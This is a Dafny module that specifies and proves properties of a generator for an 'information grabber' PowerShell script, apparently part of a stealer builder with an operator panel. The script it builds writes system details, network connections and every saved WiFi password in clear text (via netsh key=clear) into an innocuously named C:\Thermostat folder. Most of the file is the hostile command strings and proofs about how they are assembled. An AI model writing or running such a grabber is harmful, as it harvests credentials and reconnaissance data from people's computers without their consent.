/** The information grabber's PowerShell script: a setup line creating the
    collection folder, then one section of commands for each kind of
    information the operator selected, joined into one script. */
module InfoGrabber {
  import opened Strings

  /** The selected options, as the panel passes them: name to checked. */
  type Options = map<string, bool>

  /** `options.get(key, False)`. */
  predicate Selected(options: Options, key: string) {
    key in options && options[key]
  }

  const SetupLine := "New-Item -ItemType Directory -Force -Path 'C:\\Thermostat' | Out-Null"

  const SystemLines := [
    "systeminfo > \"C:\\Thermostat\\SystemInfo\\systeminfo.txt\"",
    "Get-ComputerInfo | Format-List * > \"C:\\Thermostat\\SystemInfo\\computerinfo.txt\""
  ]

  const NetworkLines := [
    "ipconfig /all > \"C:\\Thermostat\\NetworkInfo\\ipconfig.txt\"",
    "netstat -anob > \"C:\\Thermostat\\NetworkInfo\\netstat.txt\""
  ]

  const WifiLines := [
    "netsh wlan show profiles > \"C:\\Thermostat\\WifiInfo\\wifi_profiles.txt\"",
    "(netsh wlan show profiles) | Select-String \"\\:(.+)$\" | %{$name=$_.Matches.Groups[1].Value.Trim(); $_} | %{(netsh wlan show profile name=$name key=clear)} > \"C:\\Thermostat\\WifiInfo\\wifi_passwords.txt\""
  ]

  function Section(on: bool, lines: seq<string>): seq<string> {
    if on then lines else []
  }

  /** The script's lines for `options`. */
  function ScriptLines(options: Options): seq<string> {
    [SetupLine]
    + Section(Selected(options, "system_info"), SystemLines)
    + Section(Selected(options, "network_info"), NetworkLines)
    + Section(Selected(options, "wifi_info"), WifiLines)
  }

  /** Which part of the script a line belongs to: 0 for the setup line,
      then 1, 2 and 3 for the system, network and wifi sections. */
  function Rank(line: string): nat {
    if line in SystemLines then 1
    else if line in NetworkLines then 2
    else if line in WifiLines then 3
    else 0
  }

  /** The commands are told apart by their lengths. */
  lemma LinesDistinct()
    ensures SetupLine !in SystemLines && SetupLine !in NetworkLines && SetupLine !in WifiLines
    ensures forall x :: x in SystemLines ==> x !in NetworkLines && x !in WifiLines
    ensures forall x :: x in NetworkLines ==> x !in WifiLines
  {
  }

  /** The script always starts with the setup line, and a section's
      commands are in it exactly when its option is selected. */
  lemma ScriptLinesMeans(options: Options)
    ensures ScriptLines(options)[0] == SetupLine
    ensures forall x :: x in SystemLines ==> (x in ScriptLines(options) <==> Selected(options, "system_info"))
    ensures forall x :: x in NetworkLines ==> (x in ScriptLines(options) <==> Selected(options, "network_info"))
    ensures forall x :: x in WifiLines ==> (x in ScriptLines(options) <==> Selected(options, "wifi_info"))
  {
    LinesDistinct();
  }

  /** The sections come in the order system, network, wifi. */
  lemma ScriptLinesOrdered(options: Options)
    ensures forall i, j :: 0 <= i < j < |ScriptLines(options)| ==>
      Rank(ScriptLines(options)[i]) <= Rank(ScriptLines(options)[j])
  {
    LinesDistinct();
    var s := Section(Selected(options, "system_info"), SystemLines);
    var n := Section(Selected(options, "network_info"), NetworkLines);
    var w := Section(Selected(options, "wifi_info"), WifiLines);
    assert Rank(SetupLine) == 0;
    assert forall x :: x in s ==> Rank(x) == 1;
    assert forall x :: x in n ==> Rank(x) == 2;
    assert forall x :: x in w ==> Rank(x) == 3;
    RanksOrdered(SetupLine, s, n, w);
  }

  lemma RanksOrdered(a: string, s: seq<string>, n: seq<string>, w: seq<string>)
    requires Rank(a) == 0
    requires forall x :: x in s ==> Rank(x) == 1
    requires forall x :: x in n ==> Rank(x) == 2
    requires forall x :: x in w ==> Rank(x) == 3
    ensures forall i, j :: 0 <= i < j < |[a] + s + n + w| ==> Rank(([a] + s + n + w)[i]) <= Rank(([a] + s + n + w)[j])
  {
    var r := [a] + s + n + w;
    assert forall i :: 1 <= i < 1 + |s| ==> r[i] == s[i - 1];
    assert forall i :: 1 + |s| <= i < 1 + |s| + |n| ==> r[i] == n[i - 1 - |s|];
    assert forall i :: 1 + |s| + |n| <= i < |r| ==> r[i] == w[i - 1 - |s| - |n|];
    assert forall i :: 0 <= i < |r| ==>
      Rank(r[i]) == (if i == 0 then 0 else if i < 1 + |s| then 1 else if i < 1 + |s| + |n| then 2 else 3);
  }

  /** `generate_powershell_script`: the setup line, then each selected
      section in turn, joined with newlines. */
  method GeneratePowershellScript(options: Options) returns (script: string)
    ensures script == JoinOn(ScriptLines(options), '\n')
  {
    var lines := [SetupLine];
    if Selected(options, "system_info") {
      lines := lines + SystemLines;
    }
    if Selected(options, "network_info") {
      lines := lines + NetworkLines;
    }
    if Selected(options, "wifi_info") {
      lines := lines + WifiLines;
    }
    assert lines == ScriptLines(options);
    script := JoinOn(lines, '\n');
  }
}
